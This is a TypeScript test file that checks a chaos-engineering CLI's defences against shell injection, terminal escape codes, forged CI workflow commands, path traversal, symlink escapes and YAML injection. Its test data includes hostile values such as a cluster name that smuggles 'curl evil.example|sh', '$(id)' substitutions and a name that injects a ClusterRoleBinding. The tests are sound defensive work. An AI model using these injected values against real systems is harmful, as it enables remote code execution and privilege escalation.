// Findings 1, 2, 5, 10 and 14 of the third hardening round at their boundary: the real file
// system (symbolic links, /proc, /dev/full, folders and files in the way) and the real CLI.
import { test } from "node:test";
import assert from "node:assert/strict";
import {
  closeSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { spawnSync } from "node:child_process";
import { join } from "node:path";
import { prepareFolder, writeFilesInto, writeOutputFile, OutputError } from "../../server/src/output";
import { fileSegment, relativePathProblem } from "../../server/src/util/paths";
import { shellLine, shellWord } from "../../server/src/util/shell";
import { FORMAT_CHARACTERS, terminalText } from "../../server/src/util/terminal";
import { codeSpan, mdText } from "../../server/src/util/format";
import { analyzeFile } from "../../server/src/analysis";
import { gameDay } from "../../server/src/whatif/gameday";
import { gameDayFor } from "../../server/src/service/whatif";
import { HEADER, inTempDir } from "../helpers";

/** Two sites with one cluster each; the first cluster's name is `first`. */
const design = (first: string) => `${HEADER}sites:
  - name: fra
  - name: lon
links:
  - { between: [fra, lon], rttMs: 14 }
clusters:
  - name: ${JSON.stringify(first)}
    site: fra
    network: { pods: 10.10.0.0/16 }
  - name: lon-prod
    site: lon
    network: { pods: 10.20.0.0/16 }
`;

const gameday = (out: string[]) => ["gameday", "--lose", "fra", "--namespace", "app", ...out, "d.topology.yaml"];

test("shellWord: plain words stay, anything else is one quoted word the shell reads back exactly", () => {
  assert.equal(shellWord("fra-prod"), "fra-prod");
  assert.equal(shellWord("a/b.yaml"), "a/b.yaml");
  assert.equal(shellWord("ok-a;curl evil.example|sh;"), "'ok-a;curl evil.example|sh;'");
  assert.equal(shellWord("it's"), "'it'\\''s'");
  assert.equal(shellWord(""), "''");
  assert.equal(shellWord("$(id)"), "'$(id)'");
  assert.equal(shellWord("a\nb"), "$'a\\x0ab'");
  assert.equal(shellWord("x\x1b]0;pwned\x07"), "$'x\\x1b]0;pwned\\x07'");
  assert.equal(shellWord("a\u202eb'c\\"), "$'a\\u202eb\\'c\\\\'");
  assert.equal(shellLine(["kubectl", "--context", "a b", "apply"]), "kubectl --context 'a b' apply");
});

test("shellWord round-trips through a real POSIX shell for hostile words", { skip: !existsSync("/bin/bash") && "no /bin/bash" }, () => {
  const { execFileSync } = require("node:child_process") as typeof import("node:child_process");
  for (const w of [
    "ok-a;curl evil.example|sh;",
    "it's",
    "$(touch /tmp/quorate-pwned)",
    "`id`",
    "a\nb",
    "\x1b[2J",
    "'\\'",
    "-rf",
    "*",
    "~root",
  ]) {
    const out = execFileSync("/bin/bash", ["-c", `printf %s ${shellWord(w)}`], { encoding: "utf8" });
    assert.equal(out, w, `round trip of ${JSON.stringify(w)}`);
  }
  assert.ok(!existsSync("/tmp/quorate-pwned"));
});

test("codeSpan shows backticks and pipes exactly, on one line", () => {
  assert.equal(codeSpan("a`b"), "``a`b``");
  assert.equal(codeSpan("`x`"), "`` `x` ``");
  assert.equal(codeSpan("a|b", true), "`a\\|b`");
  assert.equal(codeSpan("a\nb"), "`a b`");
});

test("terminalText: escapes become visible text; with colour only the CLI's own SGR codes survive", () => {
  assert.equal(terminalText("a\x1b]0;title\x07b\rc\n\td"), "a\\u001b]0;title\\u0007b\\rc\n\td");
  assert.equal(terminalText("\x1b[31mred\x1b[0m", true), "\x1b[31mred\x1b[0m");
  assert.equal(terminalText("\x1b[31mred\x1b[0m", false), "\\u001b[31mred\\u001b[0m");
  assert.equal(terminalText("\x1b[2J\x1b[8m\x1b]8;;http://x\x07", true), "\\u001b[2J\\u001b[8m\\u001b]8;;http://x\\u0007");
  assert.equal(terminalText("\u009b2J\u202e"), "\\u009b2J\\u202e");
  // inside a JSON string the escape is valid and reads back as the character
  assert.equal(JSON.parse(terminalText(JSON.stringify({ n: "a\u009bb\u202ec" }))).n, "a\u009bb\u202ec");
});

test("bidirectional controls and invisible format characters are escapes in every text the CLI and the Action print (audit A29)", () => {
  // RLO, RLI, LRM, RLM, ALM, zero width space and joiner, word joiner, soft hyphen, BOM, a tag character
  const hidden = ["\u202e", "\u2067", "\u200e", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\u00ad", "\ufeff", "\u{e0041}"];
  for (const c of hidden) {
    const name = `x${c}LMAY.topology.yaml`;
    const esc = [...Array(c.length).keys()].map((i) => `\\u${c.charCodeAt(i).toString(16).padStart(4, "0")}`).join("");
    assert.equal(terminalText(name), `x${esc}LMAY.topology.yaml`, JSON.stringify(name));
    assert.equal(mdText(name), `x${esc}LMAY.topology.yaml`);
    assert.equal(codeSpan(name), `\`x${esc}LMAY.topology.yaml\``);
    // JSON and SARIF: the escape reads back as the name
    assert.equal(JSON.parse(terminalText(JSON.stringify({ n: name }))).n, name);
    assert.ok(shellWord(name).startsWith("$'"), shellWord(name));
  }
  // a tag character (beyond U+FFFF) in $'…' as \U, which bash reads back
  assert.equal(shellWord("a\u{e0041}b"), "$'a\\U000e0041b'");
  // what is text stays text: letters of any script, emoji, a no-break space
  for (const plain of ["Zürich", "東京", "שלום", "🚀 fra", "a\u00a0b"]) assert.equal(terminalText(plain), plain);
  // the Action's copy of the list (action/run.mjs runs without a build and cannot import it) is the same
  const action = readFileSync(join(__dirname, "..", "..", "..", "action", "run.mjs"), "utf8");
  assert.equal(/const FORMAT_CHARACTERS =\s*"([^"]+)";/.exec(action)?.[1].replace(/\\\\/g, "\\"), FORMAT_CHARACTERS);
});

test("terminalText: no line is a GitHub runner's workflow command — `::` after blanks at a line's start, `##[` anywhere (audit A22)", () => {
  const forged = [
    " ::error title=forged::x.topology.yaml:1:1: error",
    "\t::add-mask::secret",
    "\u00a0::error::no-break space",
    "\u3000::warning::ideographic space",
    "::stop-commands::t0k",
    "x ##[error]forged failure annotation.topology.yaml:3:1: warning",
    'site "lon ##[stop-commands]t0k" is not declared',
  ].join("\n");
  for (const color of [false, true]) {
    const out = terminalText(forged, color);
    for (const line of out.split("\n")) {
      assert.doesNotMatch(line, /^\s*::/, line);
      assert.doesNotMatch(line, /##\[/, line);
    }
    assert.match(out, /^ \\u003a:error title=forged::x\.topology\.yaml/);
    assert.match(out, /x ##\\u005berror\]forged/);
  }
  // behind the CLI's own colour code at a line's start, too
  assert.equal(terminalText("\x1b[1m::warning::x", true), "\x1b[1m\\u003a:warning::x");
  // the other side: `::` inside a line, a single `:` at its start and `##` without `[` stay as they are
  assert.equal(terminalText("a::b\n:x\n## heading\n./::error x"), "a::b\n:x\n## heading\n./::error x");
  // a JSON reader gets every name back exactly
  const names = ["::error::x", "lon ##[stop-commands]t0k"];
  assert.deepEqual(JSON.parse(terminalText(JSON.stringify(names, null, 0))), names);
});

test("fileSegment: portable names stay, others cannot climb out and never collide", () => {
  assert.equal(fileSegment("fra-prod"), "fra-prod");
  for (const n of [
    "..",
    ".",
    "../escaped",
    "/etc/passwd",
    "a/b",
    "a\\b",
    ".git",
    "con",
    "-rf",
    "",
    "a\x1b",
    "x".repeat(300),
    "trailing.",
  ]) {
    const s = fileSegment(n);
    assert.match(s, /^[A-Za-z0-9_][A-Za-z0-9_-]*$/, `${JSON.stringify(n)} → ${s}`);
    assert.ok(s.length <= 60);
    assert.equal(relativePathProblem(s), undefined);
  }
  assert.notEqual(fileSegment("a/b"), fileSegment("a\\b"));
  assert.notEqual(fileSegment("a b"), fileSegment("a-b"));
});

test("relativePathProblem refuses every way out of the folder", () => {
  for (const p of ["", "/abs", "C:/x", "a/../b", "..", "./a", "a//b", "a\\b", "a\0b", "a/"]) assert.ok(relativePathProblem(p), p);
  assert.equal(relativePathProblem("fra-prod/networkchaos.yaml"), undefined);
});

test("writeFilesInto: inside the folder only, never through a symlink, never over a file without force", () =>
  inTempDir({ "victim.txt": "precious\n" }, (dir) => {
    const out = join(dir, "out");
    mkdirSync(out);
    assert.throws(
      () => writeFilesInto(out, [{ path: "../escaped", content: "x" }]),
      /refusing to write '\.\.\/escaped': it has a '\.\.' segment/,
    );
    assert.throws(() => writeFilesInto(out, [{ path: "/tmp/abs", content: "x" }]), /absolute path/);
    symlinkSync("../victim.txt", join(out, "RUNBOOK.md"));
    assert.throws(
      () => writeFilesInto(out, [{ path: "RUNBOOK.md", content: "x" }]),
      /RUNBOOK\.md already exists \(a symbolic link: it is not followed\): not overwritten \(pass --force/,
    );
    // with force the link itself is replaced, never its target
    writeFilesInto(out, [{ path: "RUNBOOK.md", content: "new" }], { force: true });
    assert.equal(readFileSync(join(dir, "victim.txt"), "utf8"), "precious\n");
    assert.ok(lstatSync(join(out, "RUNBOOK.md")).isFile());
    assert.equal(readFileSync(join(out, "RUNBOOK.md"), "utf8"), "new");
    // a symlinked sub-folder is never entered, even with force
    symlinkSync(dir, join(out, "fra-prod"));
    assert.throws(
      () => writeFilesInto(out, [{ path: "fra-prod/victim.txt", content: "x" }], { force: true }),
      /fra-prod is a symbolic link \(not followed\)/,
    );
    assert.equal(readFileSync(join(dir, "victim.txt"), "utf8"), "precious\n");
    // nothing is written unless everything can be
    assert.throws(
      () =>
        writeFilesInto(out, [
          { path: "a.yaml", content: "x" },
          { path: "RUNBOOK.md", content: "y" },
        ]),
      /already exists/,
    );
    assert.ok(!existsSync(join(out, "a.yaml")));
    assert.throws(
      () =>
        writeFilesInto(out, [
          { path: "A.yaml", content: "x" },
          { path: "a.yaml", content: "y" },
        ]),
      /refusing to write 'a\.yaml' and 'A\.yaml' \(names differing only in case share a file on macOS and Windows\)$/,
    );
    assert.throws(
      () =>
        writeFilesInto(out, [
          { path: "b.yaml", content: "x" },
          { path: "b.yaml", content: "y" },
        ]),
      /refusing to write 'b\.yaml' twice: two files of this set have that name$/,
    );
    // a file another file needs as its folder: refused before anything is written (audit A6)
    assert.throws(
      () =>
        writeFilesInto(out, [
          { path: "c/x.yaml", content: "x" },
          { path: "c", content: "y" },
        ]),
      /refusing to write 'c': another file of this set needs it as a folder$/,
    );
    assert.ok(!existsSync(join(out, "c")));
    // a FIFO or a folder in the way is refused even with force
    mkdirSync(join(out, "d"));
    assert.throws(() => writeFilesInto(out, [{ path: "d", content: "x" }], { force: true }), /cannot write .*d: it is a folder/);
    assert.deepEqual(readdirSync(out).sort(), ["RUNBOOK.md", "d", "fra-prod"]);
  }));

test("prepareFolder: /proc/self answers at once, a file is not a folder, an empty name is refused", () =>
  inTempDir({ "f.txt": "x" }, (dir) => {
    assert.throws(() => prepareFolder("f.txt", dir), /f\.txt is not a regular file, not a folder|f\.txt is .* not a folder/);
    assert.throws(() => prepareFolder("", dir), /empty/);
    assert.equal(prepareFolder("a/b/c", dir), join(dir, "a", "b", "c"));
    assert.ok(lstatSync(join(dir, "a", "b", "c")).isDirectory());
    symlinkSync(dir, join(dir, "link"));
    assert.throws(() => prepareFolder("link", dir, { followLink: false }), /link is a symbolic link: not followed/);
    assert.equal(prepareFolder("link", dir), join(dir, "link"));
    if (existsSync("/proc/self")) {
      const abs = prepareFolder("/proc/self", dir);
      assert.throws(() => writeFilesInto(abs, [{ path: "x/RUNBOOK.md", content: "x" }]), OutputError);
      assert.throws(() => prepareFolder("/proc/self/quorate-x", dir), /cannot create \/proc\/self\/quorate-x: /);
    }
  }));

test("writeOutputFile: a folder, /dev/full, a missing folder and an existing file each get one message", () =>
  inTempDir({ "ADR.md": "old" }, (dir) => {
    mkdirSync(join(dir, "docs"));
    assert.throws(() => writeOutputFile("docs", "x", dir, { force: true }), /cannot write docs: it is a folder/);
    assert.throws(() => writeOutputFile("ADR.md", "x", dir), /ADR\.md already exists: not overwritten \(pass --force/);
    writeOutputFile("ADR.md", "new", dir, { force: true });
    assert.equal(readFileSync(join(dir, "ADR.md"), "utf8"), "new");
    assert.throws(() => writeOutputFile("nope/ADR.md", "x", dir), /cannot write nope\/ADR\.md: no such file or folder \(nope\)/);
    assert.throws(() => writeOutputFile("ADR.md/x", "x", dir), /ADR\.md is not a folder/);
    if (existsSync("/dev/full"))
      assert.throws(
        () => writeOutputFile("/dev/full", "x", dir, { force: true }),
        /cannot write \/dev\/full: it is a device, not a regular file/,
      );
  }));

/** The game day the CLI would write for `first`, straight from the engine (the CLI refuses a name the schema rejects, so this is the guard behind that refusal). */
const gameDayOf = (first: string) =>
  gameDay(
    analyzeFile("d.topology.yaml", design(first)).contexts[0],
    { lose: ["fra"] },
    { tool: "chaos-mesh", source: "d.topology.yaml", namespaces: ["app"] },
  );

/** The CLI refuses a design whose cluster name breaks the schema: exit 2, one line, nothing written. */
function refused(dir: string, cli: (argv: string[]) => { code: number; stderr: string }, name: string) {
  const r = cli(gameday(["-o", "out"]));
  assert.equal(r.code, 2, r.stderr);
  assert.match(r.stderr, /^quorate: d\.topology\.yaml:\d+:\d+: `name` [^\n]* is not a DNS label[^\n]*\n$/);
  assert.ok(!existsSync(join(dir, "out")), `a refused game day wrote out/ (${name})`);
}

test("quorate gameday: hostile cluster names are refused, and kept inside the folder behind that; symlinks and existing files are refused, errors are one line", () =>
  inTempDir({ "d.topology.yaml": design("../escaped"), "ok.topology.yaml": design("fra-prod"), "victim.txt": "precious\n" }, (dir, cli) => {
    refused(dir, cli, "../escaped");
    assert.ok(!existsSync(join(dir, "escaped")));
    // behind the refusal: the engine's own paths for that name are one safe segment
    const paths = gameDayOf("../escaped").files.map((f) => f.path);
    assert.ok(
      paths.every((p) => relativePathProblem(p) === undefined && !p.split("/").includes("..")),
      paths.join(","),
    );
    assert.ok(
      paths.some((p) => /^escaped-[0-9a-f]{8}\//.test(p)),
      paths.join(","),
    );
    const ok = (out: string[]) => cli([...gameday(out).slice(0, -1), "ok.topology.yaml"]);
    let r = ok(["-o", "out"]);
    assert.equal(r.code, 0, r.stderr);
    const inside = readdirSync(join(dir, "out")).sort();
    assert.ok(
      ["RUNBOOK.md", "fra-prod", "lon-prod"].every((x) => inside.includes(x)),
      inside.join(","),
    );
    // running again refuses to overwrite; --force replaces
    r = ok(["-o", "out"]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /^quorate: .*already exists: not overwritten \(pass --force to replace it\)\n$/);
    assert.equal(ok(["-o", "out", "--force"]).code, 0);
    // a RUNBOOK.md planted as a symlink in the chosen folder
    mkdirSync(join(dir, "planted"));
    symlinkSync("../victim.txt", join(dir, "planted", "RUNBOOK.md"));
    r = ok(["-o", "planted", "--force"]);
    assert.equal(readFileSync(join(dir, "victim.txt"), "utf8"), "precious\n");
    r = ok(["-o", ""]);
    assert.equal(r.code, 2);
    assert.equal(r.stderr, "quorate: -o needs a file or folder name, not an empty string\n");
    r = ok(["-o", "victim.txt"]);
    assert.equal(r.code, 2);
    assert.equal(r.stderr, "quorate: victim.txt is not a regular file, not a folder\n");
  }));

test("quorate gameday: an absolute cluster name, /proc/self and a default folder planted as a symlink", () =>
  inTempDir({ "d.topology.yaml": design("/tmp/quorate-abs-escape"), "ok.topology.yaml": design("fra-prod") }, (dir, cli) => {
    refused(dir, cli, "/tmp/quorate-abs-escape");
    assert.ok(!existsSync("/tmp/quorate-abs-escape"));
    const paths = gameDayOf("/tmp/quorate-abs-escape").files.map((f) => f.path);
    assert.ok(
      paths.every((p) => !p.startsWith("/") && relativePathProblem(p) === undefined),
      paths.join(","),
    );
    const ok = (out: string[]) => cli([...gameday(out).slice(0, -1), "ok.topology.yaml"]);
    let r: { code: number; stderr: string };
    if (existsSync("/proc/self")) {
      r = ok(["-o", "/proc/self"]);
      assert.equal(r.code, 2);
      assert.match(r.stderr, /^quorate: cannot create \/proc\/self\/[^:]+: no such file or folder\n$/);
    }
    mkdirSync(join(dir, "elsewhere"));
    symlinkSync(join(dir, "elsewhere"), join(dir, "gameday-lose-fra"));
    r = ok([]);
    assert.equal(r.code, 2);
    assert.equal(r.stderr, "quorate: gameday-lose-fra is a symbolic link: not followed (choose the folder with -o)\n");
    assert.deepEqual(readdirSync(join(dir, "elsewhere")), []);
  }));

test("the runbook's copy-paste lines carry names as single shell words", () =>
  inTempDir({ "d.topology.yaml": design("ok-a;curl evil.example|sh;") }, (dir, cli) => {
    refused(dir, cli, "ok-a;curl evil.example|sh;");
    const runbook = gameDayOf("ok-a;curl evil.example|sh;").files.find((f) => f.path === "RUNBOOK.md")!.content;
    assert.ok(!/kubectl --context ok-a;curl/.test(runbook), runbook);
    assert.match(
      runbook,
      /`kubectl --context 'ok-a;curl evil\.example\\\|sh;' apply -f ok-a-curl-evil-example-sh-[0-9a-f]{8}\/networkchaos\.yaml`/,
    );
  }));

test("report, diagram: -o onto a folder, /dev/full, an existing file and an empty name are one message each", () =>
  inTempDir({ "d.topology.yaml": design("fra-prod") }, (dir, cli) => {
    mkdirSync(join(dir, "docs"));
    for (const cmd of ["report", "diagram"]) {
      let r = cli([cmd, "-o", "docs", "d.topology.yaml"]);
      assert.deepEqual([r.code, r.stderr], [2, "quorate: cannot write docs: it is a folder\n"]);
      r = cli([cmd, "-o", "docs", "--force", "d.topology.yaml"]);
      assert.deepEqual([r.code, r.stderr], [2, "quorate: cannot write docs: it is a folder\n"]);
      if (existsSync("/dev/full")) {
        r = cli([cmd, "-o", "/dev/full", "--force", "d.topology.yaml"]);
        assert.deepEqual([r.code, r.stderr], [2, "quorate: cannot write /dev/full: it is a device, not a regular file\n"]);
      }
      const out = `${cmd}.md`;
      assert.equal(cli([cmd, "-o", out, "d.topology.yaml"]).code, 0);
      writeFileSync(join(dir, out), "edited by hand");
      r = cli([cmd, "-o", out, "d.topology.yaml"]);
      assert.deepEqual([r.code, r.stderr], [2, `quorate: ${out} already exists: not overwritten (pass --force to replace it)\n`]);
      assert.equal(readFileSync(join(dir, out), "utf8"), "edited by hand");
      assert.equal(cli([cmd, "-o", out, "--force", "d.topology.yaml"]).code, 0);
      assert.notEqual(readFileSync(join(dir, out), "utf8"), "edited by hand");
      r = cli([cmd, "--output=", "d.topology.yaml"]);
      assert.deepEqual([r.code, r.stderr], [2, "quorate: --output needs a file or folder name, not an empty string\n"]);
    }
  }));

test("the CLI never prints a name's escape sequences raw", () =>
  inTempDir({ "d.topology.yaml": design("evil\x1b]0;pwned\x07\x1b[2J") }, (_dir, cli) => {
    for (const argv of [
      ["check", "d.topology.yaml"],
      ["simulate", "--lose", "fra", "d.topology.yaml"],
      ["report", "d.topology.yaml"],
      ["diagram", "d.topology.yaml"],
      [...gameday([]).slice(0, -1), "--format", "md", "d.topology.yaml"],
    ]) {
      const r = cli(argv);
      assert.ok(!/[\x07\x1b]/.test(r.stdout + r.stderr), `${argv[0]}: ${JSON.stringify(r.stdout.slice(0, 300))}`);
    }
  }));

test("the built CLI: standard output on /dev/full is one line and exit 2; a closed pipe is quiet", {
  skip: !existsSync("/dev/full") && "no /dev/full here",
}, () => {
  const cli = join(__dirname, "..", "..", "..", "dist", "cli.js");
  const example = join(__dirname, "..", "..", "..", "examples", "payments-eu.topology.yaml");
  const full = openSync("/dev/full", "w");
  try {
    const r = spawnSync(process.execPath, [cli, "report", example], { stdio: ["ignore", full, "pipe"], encoding: "utf8" });
    assert.equal(r.status, 2);
    assert.equal(r.stderr, "quorate: cannot write the output: ENOSPC\n");
  } finally {
    closeSync(full);
  }
  // the reader goes away after the first line: no stack trace, the command's own exit code
  const p = spawnSync("sh", ["-c", `"${process.execPath}" "${cli}" check "${example}" | head -1 >/dev/null; echo "\${PIPESTATUS:-}"`], {
    encoding: "utf8",
  });
  assert.equal(p.stderr, "");
});

/** A ClusterMesh design: the schema leaves its cluster names to mesh/cluster-name (an error finding), not to the DNS-label pattern. */
const meshDesign = (second: string, namespace = "app") => `${HEADER}sites:
  - name: fra
  - name: lon
links:
  - { between: [fra, lon], rttMs: 14 }
clusters:
  - name: fra-prod
    site: fra
    mesh: clustermesh
    id: 1
    network: { pods: 10.10.0.0/16 }
  - name: ${JSON.stringify(second)}
    site: lon
    mesh: clustermesh
    id: 2
    network: { pods: 10.20.0.0/16 }
exports:
  - { service: api, namespace: ${JSON.stringify(namespace)}, clusters: [fra-prod] }
`;

/** A name whose U+0085 (a line break to YAML readers) would end a generated comment and start a ClusterRoleBinding. */
const NEL_NAME = "lon-prod\u0085---\u0085apiVersion: rbac.authorization.k8s.io/v1\u0085kind: ClusterRoleBinding\u0085#";

test("quorate gameday: a ClusterMesh cluster name or an export namespace that is not a DNS label is refused before anything is written", () =>
  inTempDir(
    {
      "nel.topology.yaml": meshDesign(NEL_NAME),
      "dash.topology.yaml": meshDesign("lon-prod\t'$(touch pwned) #"),
      "ns.topology.yaml": meshDesign("lon-prod", "app'$(id)"),
      "ok.topology.yaml": meshDesign("lon-prod"),
    },
    (dir, cli) => {
      for (const [file, what] of [
        ["nel", /cluster name "lon-prod\\u0085---/],
        ["dash", /cluster name "lon-prod\\t'\$\(touch pwned\) #"/],
        ["ns", /namespace "app'\$\(id\)"/],
      ] as const) {
        const r = cli(["gameday", "--lose", "fra", "-o", "out", `${file}.topology.yaml`]);
        assert.equal(r.code, 1, `${file}: ${r.stderr}`);
        assert.match(
          r.stderr,
          /^quorate: refused: [^\n]* is not a DNS label \(lowercase letters, digits and '-'[^\n]*Fix the name first \(quorate check names it\)\.\n$/,
        );
        assert.match(r.stderr, what);
        assert.ok(!existsSync(join(dir, "out")), `${file}: a refused game day wrote out/`);
      }
      assert.ok(!existsSync(join(dir, "pwned")));
      // the same design with DNS-label names is written
      const ok = cli(["gameday", "--lose", "fra", "-o", "out", "ok.topology.yaml"]);
      assert.equal(ok.code, 0, ok.stderr);
      assert.ok(existsSync(join(dir, "out", "RUNBOOK.md")));
    },
  ));

test("the game day's generated comments are single lines whatever a name holds: U+0085 and controls are shown, never a line of their own", () => {
  const { parseAllDocuments } = require("yaml") as typeof import("yaml");
  // the engine behind the CLI's refusal, given the hostile name anyway
  const g = gameDay(
    analyzeFile("d.topology.yaml", meshDesign(NEL_NAME)).contexts[0],
    { lose: ["fra"] },
    { tool: "chaos-mesh", source: "d\u0085kind: Secret.topology.yaml", namespaces: ["app"] },
  );
  const generated = g.files.filter((f) => f.path !== "RUNBOOK.md");
  assert.ok(generated.some((f) => f.path.endsWith(".yaml")));
  for (const f of generated) {
    assert.ok(!/[\u0085\u2028\u2029\r\u001b]/.test(f.content), `${f.path}: ${JSON.stringify(f.content.slice(0, 300))}`);
    if (!f.path.endsWith(".yaml")) continue;
    // every document is what the game day means to write (a NetworkChaos or a probe pod), never a binding
    const kinds = parseAllDocuments(f.content).map((d) => (d.toJS() as { kind?: string } | null)?.kind);
    assert.ok(
      kinds.every((k) => k === "NetworkChaos" || k === "Pod" || k === "Deployment"),
      `${f.path}: ${kinds.join(",")}`,
    );
  }
});

test("refuseUnsafeNames: the editor's Export Game Day refuses what the CLI refuses", async () => {
  const a = analyzeFile("d.topology.yaml", meshDesign(NEL_NAME));
  const r = await gameDayFor(a, { uri: "file:///d.topology.yaml", scenario: { lose: ["fra"] } } as never, "d.topology.yaml");
  assert.ok(r && r.files.length === 0, JSON.stringify(r).slice(0, 300));
  assert.match(r.error ?? "", /^refused: cluster name "lon-prod\u0085---/);
  const ok = await gameDayFor(
    analyzeFile("d.topology.yaml", meshDesign("lon-prod")),
    { uri: "file:///d.topology.yaml", scenario: { lose: ["fra"] } } as never,
    "d.topology.yaml",
  );
  assert.ok(ok && ok.files.length > 0 && !ok.error, JSON.stringify(ok).slice(0, 300));
});

test("gameday: a cluster named like a site's host file gets a file of its own, and the runbook names each (audit A6)", () => {
  const reviewed = readFileSync(join(__dirname, "..", "..", "..", "examples", "payments-eu-reviewed.topology.yaml"), "utf8");
  const text = reviewed.replace(/lon-prod/g, "lon-addresses");
  const g = gameDay(
    analyzeFile("d.topology.yaml", text).contexts[0],
    { lose: ["fra"] },
    { tool: "chaos-mesh", source: "d.topology.yaml", isolate: true },
  );
  const hosts = g.files.map((f) => f.path).filter((p) => p.startsWith("hosts/") && p.endsWith(".nft"));
  assert.equal(new Set(hosts.map((p) => p.toLowerCase())).size, hosts.length, hosts.join(","));
  assert.ok(hosts.includes("hosts/lon-addresses.nft") && hosts.includes("hosts/lon-addresses-2.nft"), hosts.join(","));
  const runbook = g.files.find((f) => f.path === "RUNBOOK.md")!.content;
  for (const h of hosts) assert.ok(runbook.includes(h), `the runbook names ${h}`);
  inTempDir({}, (dir) => {
    mkdirSync(join(dir, "out"));
    const written = writeFilesInto(join(dir, "out"), g.files);
    assert.equal(written.length, g.files.length);
  });
});

test("-o through a folder that is a symbolic link out of the working folder is refused: one message, exit 2, nothing written there (audit A25)", () =>
  inTempDir({ "d.topology.yaml": design("fra-prod") }, (dir, cli) => {
    const outside = mkdtempSync(join(tmpdir(), "quorate-a25-"));
    try {
      // a checkout's own links: `out -> /etc` at the top, `docs/gen -> …` deeper
      symlinkSync(outside, join(dir, "out"));
      mkdirSync(join(dir, "docs"));
      symlinkSync(outside, join(dir, "docs", "gen"));
      const refusal = (shown: string, link: string) =>
        new RegExp(
          `cannot write ${shown}: ${link} is a symbolic link to ${outside}, outside the working folder: not followed \\(name a folder outside the working folder by its own path if that is where it belongs\\)$`,
        );
      assert.throws(() => writeOutputFile("out/x.md", "x", dir), refusal("out/x\\.md", "out"));
      assert.throws(() => writeOutputFile("docs/gen/x.md", "x", dir, { force: true }), refusal("docs/gen/x\\.md", "docs/gen"));
      assert.throws(() => writeOutputFile(join(dir, "out", "x.md"), "x", dir), /out is a symbolic link to .*, outside the working folder/);
      assert.throws(() => prepareFolder("out", dir), refusal("out", "out"));
      assert.throws(() => prepareFolder("out/new", dir), refusal("out/new", "out"));
      const d = cli(["diagram", "-o", "out/d.md", "d.topology.yaml"]);
      assert.equal(d.code, 2);
      assert.match(d.stderr, /^quorate: cannot write out\/d\.md: out is a symbolic link to .*, outside the working folder: not followed/);
      const g = cli(gameday(["-o", "docs/gen"]));
      assert.equal(g.code, 2);
      assert.match(g.stderr, /^quorate: cannot write docs\/gen: docs\/gen is a symbolic link to .*, outside the working folder/);
      assert.deepEqual(readdirSync(outside), []);
      // a link that stays inside is followed; a path named outside the working folder is the user's, links and all
      mkdirSync(join(dir, "real"));
      symlinkSync("real", join(dir, "in"));
      writeOutputFile("in/x.md", "x", dir);
      assert.equal(readFileSync(join(dir, "real", "x.md"), "utf8"), "x");
      symlinkSync(outside, `${outside}-via`);
      writeOutputFile(join(`${outside}-via`, "y.md"), "y", dir);
      assert.deepEqual(readdirSync(outside), ["y.md"]);
    } finally {
      rmSync(outside, { recursive: true, force: true });
      rmSync(`${outside}-via`, { force: true });
    }
  }));
